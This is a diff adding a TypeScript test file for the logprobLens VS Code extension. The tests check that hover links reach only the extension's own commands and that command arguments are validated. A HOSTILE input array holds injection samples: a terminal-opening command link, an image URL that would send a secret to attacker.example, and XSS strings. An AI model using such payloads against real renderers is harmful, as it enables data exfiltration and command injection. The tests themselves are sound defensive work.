@@ -1,0 +1,149 @@
+import * as assert from 'node:assert/strict';
+import { defaultCapabilities } from '../../src/core/capabilities';
+import type { ActionArgs, ActionTarget } from '../../src/core/hoverActions';
+import { hoverMarkdown } from '../../src/core/hoverMarkdown';
+import {
+  HOVER_COMMANDS, HOVER_ENABLED_COMMANDS, actionLink, actionsMarkdown, parseActionArgs, rowActions, staleReason, textFingerprint,
+} from '../../src/core/hoverActions';
+
+const HOSTILE = [
+  '[x](command:workbench.action.terminal.new)',
+  '[Ban](command:logprobLens.ban?%5B%7B%22answer%22%3A%22a1%22%2C%22token%22%3A0%2C%22fingerprint%22%3A%2200000000%22%7D%5D)',
+  '](command:logprobLens.continueWith?[])',
+  '![](https://attacker.example/?q=secret)',
+  '<img src=x onerror=alert(1)>',
+  '$(alert)', '`', '```', '|', '\\|', '&lt;', '', ' ', '\n\n', '<|endoftext|>', '▁the', '" onclick="x', ')', '(', '\u202e', '%5D%29',
+];
+
+/** Every markdown link in the output: [label](destination "title"). */
+const links = (markdown: string): { label: string; destination: string; title: string }[] =>
+  [...markdown.matchAll(/\[([^\]]*)\]\(([^\s)]*)(?: "([^"]*)")?\)/g)].map((m) => ({ label: m[1]!, destination: m[2]!, title: m[3] ?? '' }));
+
+/** The arguments VS Code would pass: it JSON-parses the decoded query and spreads the array. */
+const argsOf = (destination: string): unknown[] => JSON.parse(decodeURIComponent(destination.slice(destination.indexOf('?') + 1))) as unknown[];
+
+describe('hover actions: links to our commands only', () => {
+  it('lists exactly our four commands for isTrusted.enabledCommands', () => {
+    assert.deepEqual([...HOVER_ENABLED_COMMANDS].sort(), ['logprobLens.ban', 'logprobLens.boost', 'logprobLens.continueWith', 'logprobLens.inspect']);
+  });
+
+  it('builds one link per action, labelled by us, pointing at our command with validated arguments', () => {
+    const target: ActionTarget = { answer: 'answer-7', token: 12, tokenText: ' Australia', alternative: { index: 3, text: ' Oceania' } };
+    const markdown = actionsMarkdown(target, ['continueWith', 'ban', 'boost']);
+    const found = links(markdown);
+    assert.deepEqual(found.map((link) => link.label), ['Continue', 'Ban', 'Boost']);
+    assert.deepEqual(found.map((link) => link.destination.slice(0, link.destination.indexOf('?'))), ['command:logprobLens.continueWith', 'command:logprobLens.ban', 'command:logprobLens.boost']);
+    const expected: ActionArgs = { answer: 'answer-7', token: 12, alternative: 3, fingerprint: textFingerprint(' Australia', ' Oceania') };
+    for (const link of found) assert.deepEqual(argsOf(link.destination), [expected]);
+    assert.equal(markdown.split(' · ').length, 3);
+  });
+
+  it('never lets a hostile token become a link: the output is only our grammar, whatever the token says', () => {
+    const grammar = /^\[(?:Continue|Ban|Boost|Inspect)\]\(command:logprobLens\.(?:continueWith|ban|boost|inspect)\?[A-Za-z0-9%._-]+ "[A-Za-z0-9 ().-]+"\)$/;
+    for (const hostile of HOSTILE) {
+      for (const target of [
+        { answer: 'a1', token: 0, tokenText: hostile },
+        { answer: 'a1', token: 0, tokenText: 'ok', alternative: { index: 0, text: hostile } },
+      ] satisfies ActionTarget[]) {
+        const markdown = actionsMarkdown(target, target.alternative ? ['continueWith', 'ban', 'boost'] : ['ban', 'boost', 'inspect']);
+        const parts = markdown.split(' · ');
+        for (const part of parts) assert.match(part, grammar, JSON.stringify(hostile));
+        assert.equal(links(markdown).length, 3, JSON.stringify(hostile));
+        assert.equal(markdown.split('command:').length - 1, 3, JSON.stringify(hostile));
+        for (const link of links(markdown)) assert.ok(parseActionArgs(argsOf(link.destination)[0]), JSON.stringify(hostile));
+      }
+    }
+  });
+
+  it('adds only our links to a hover whose tokens spell links (outside code spans, the only command: targets are ours)', () => {
+    const outsideCodeSpans = (markdown: string): string => markdown.replace(/(`+)(?:(?!\1)[\s\S])*?\1/g, '');
+    for (const hostile of HOSTILE) {
+      const hover = hoverMarkdown([{ token: hostile, logprob: -0.5, alternatives: [{ token: hostile, logprob: -0.5 }, { token: ' safe', logprob: -1 }] }]);
+      const actions = actionsMarkdown({ answer: 'a1', token: 0, tokenText: hostile, alternative: { index: 0, text: hostile } }, ['continueWith', 'ban']);
+      const rendered = outsideCodeSpans(`${hover}\n\n${actions}`);
+      const targets = [...rendered.matchAll(/command:[^\s)"]*/g)].map((m) => m[0].slice(0, m[0].indexOf('?')));
+      assert.deepEqual(targets, ['command:logprobLens.continueWith', 'command:logprobLens.ban'], JSON.stringify(hostile));
+    }
+  });
+
+  it('refuses to build a link from out-of-range ids (a caller bug, never silently encoded)', () => {
+    assert.throws(() => actionLink('ban', { answer: 'has space', token: 0, tokenText: 'x' }), RangeError);
+    assert.throws(() => actionLink('ban', { answer: 'a', token: -1, tokenText: 'x' }), RangeError);
+    assert.throws(() => actionLink('continueWith', { answer: 'a', token: 0, tokenText: 'x', alternative: { index: 5000, text: 'y' } }), RangeError);
+  });
+
+  it('shows unavailable actions as our own italic text with a fixed reason, not as links', () => {
+    const markdown = actionsMarkdown({ answer: 'a', token: 1, tokenText: 'x', alternative: { index: 0, text: 'y' } }, ['ban'], { continueWith: 'no-prefill' });
+    assert.equal(links(markdown).length, 1);
+    assert.match(markdown, / · _Continue: needs an assistant prefill or legacy Completions_$/);
+  });
+});
+
+describe('hover actions: which actions a row offers', () => {
+  const at = (model: string) => ({ model, apiStyle: 'chat' as const, endpointLabel: 'Endpoint' });
+
+  it('offers Continue on alternatives where a prefill exists, Ban and Boost where the token can be keyed', () => {
+    const vllm = defaultCapabilities({ preset: 'vLLM', apiStyle: 'chat', model: 'm' });
+    assert.deepEqual(rowActions(vllm, { token: ' Oceania', id: 5 }, true, at('m')), { actions: ['continueWith', 'ban', 'boost'], disabled: {} });
+    assert.deepEqual(rowActions(vllm, { token: ' Australia' }, false, at('m')), { actions: ['inspect'], disabled: { ban: 'no-token-id' } });
+    const openAi = defaultCapabilities({ preset: 'OpenAI', apiStyle: 'chat', model: 'gpt-4o' });
+    assert.deepEqual(rowActions(openAi, { token: ' Oceania' }, true, at('gpt-4o')), { actions: ['ban', 'boost'], disabled: { continueWith: 'no-prefill' } });
+    assert.deepEqual(rowActions(openAi, { token: ' Oceania' }, true, at('my-deployment')).disabled, { continueWith: 'no-prefill', ban: 'no-token-id' });
+    const ollama = defaultCapabilities({ preset: 'Ollama', apiStyle: 'chat', model: 'llama3.2' });
+    assert.deepEqual(rowActions(ollama, { token: ' Oceania' }, true, at('llama3.2')), { actions: ['continueWith'], disabled: { ban: 'no-logit-bias' } });
+  });
+
+  it('keeps a partial character out of Continue, but lets Ban use its id', () => {
+    const llamaCpp = defaultCapabilities({ preset: 'llama.cpp server', apiStyle: 'chat', model: 'm' });
+    assert.deepEqual(rowActions(llamaCpp, { token: '�', bytes: [137], id: 231 }, true, at('m')), { actions: ['ban', 'boost'], disabled: { continueWith: 'partial-character' } });
+    assert.deepEqual(rowActions(llamaCpp, { token: '�', bytes: [137] }, true, at('m')).disabled, { continueWith: 'partial-character', ban: 'partial-character' });
+  });
+});
+
+describe('hover actions: validating a command\'s argument', () => {
+  const valid = { answer: 'a-1_B', token: 4, alternative: 2, fingerprint: '0a1b2c3d' };
+
+  it('accepts exactly the fields, types and ranges', () => {
+    assert.deepEqual(parseActionArgs(valid), valid);
+    assert.deepEqual(parseActionArgs({ answer: 'a', token: 0, fingerprint: 'ffffffff' }), { answer: 'a', token: 0, fingerprint: 'ffffffff' });
+    assert.deepEqual(parseActionArgs(JSON.parse(JSON.stringify(valid))), valid);
+  });
+
+  it('rejects wrong types, extra or missing fields, huge or fractional values and odd objects', () => {
+    const rejected: unknown[] = [
+      undefined, null, 7, 'a', [valid], Object.assign(Object.create(null) as object, valid), new Date(),
+      { ...valid, extra: 1 }, JSON.parse('{"answer":"a","token":1,"fingerprint":"00000000","__proto__":{"x":1}}'),
+      { answer: 'a', token: 1 }, { token: 1, fingerprint: '00000000' },
+      { ...valid, token: -1 }, { ...valid, token: 1.5 }, { ...valid, token: 1e12 }, { ...valid, token: Number.NaN }, { ...valid, token: '4' },
+      { ...valid, alternative: 1001 }, { ...valid, alternative: -1 }, { ...valid, alternative: null }, { ...valid, alternative: undefined },
+      { ...valid, answer: '' }, { ...valid, answer: 'a/b' }, { ...valid, answer: 'x'.repeat(65) }, { ...valid, answer: 'a\u0000' },
+      { ...valid, fingerprint: '0A1B2C3D' }, { ...valid, fingerprint: '0a1b2c3' }, { ...valid, fingerprint: 12345678 },
+    ];
+    for (const value of rejected) assert.equal(parseActionArgs(value), undefined, String(JSON.stringify(value)));
+  });
+});
+
+describe('hover actions: stale links', () => {
+  const args = (alternative?: number): ActionArgs => ({ answer: 'a', token: 3, ...(alternative !== undefined ? { alternative } : {}), fingerprint: textFingerprint(' Paris', alternative !== undefined ? ' Lyon' : undefined) });
+
+  it('acts only while the tracked token still has the same text', () => {
+    assert.equal(staleReason(args(), { tokenText: ' Paris' }), undefined);
+    assert.equal(staleReason(args(1), { tokenText: ' Paris', alternativeText: ' Lyon' }), undefined);
+  });
+
+  it('refuses when the answer is gone, the token changed, or the alternative is no longer there', () => {
+    assert.match(staleReason(args(), undefined)!, /no longer tracked/);
+    assert.match(staleReason(args(), { tokenText: ' paris' })!, /changed since the hover/);
+    assert.match(staleReason(args(1), { tokenText: ' Paris', alternativeText: ' Nice' })!, /changed since the hover/);
+    assert.match(staleReason(args(1), { tokenText: ' Paris' })!, /alternative is no longer there/);
+  });
+
+  it('fingerprints with FNV-1a: known vectors, and token/alternative boundaries matter', () => {
+    // FNV-1a 32-bit reference values: "" -> 811c9dc5, "a" -> e40c292c, "foobar" -> bf9cf968.
+    assert.equal(textFingerprint(''), '811c9dc5');
+    assert.equal(textFingerprint('a'), 'e40c292c');
+    assert.equal(textFingerprint('foobar'), 'bf9cf968');
+    assert.notEqual(textFingerprint('ab', 'c'), textFingerprint('a', 'bc'));
+    assert.equal(Object.keys(HOVER_COMMANDS).length, 4);
+  });
+});
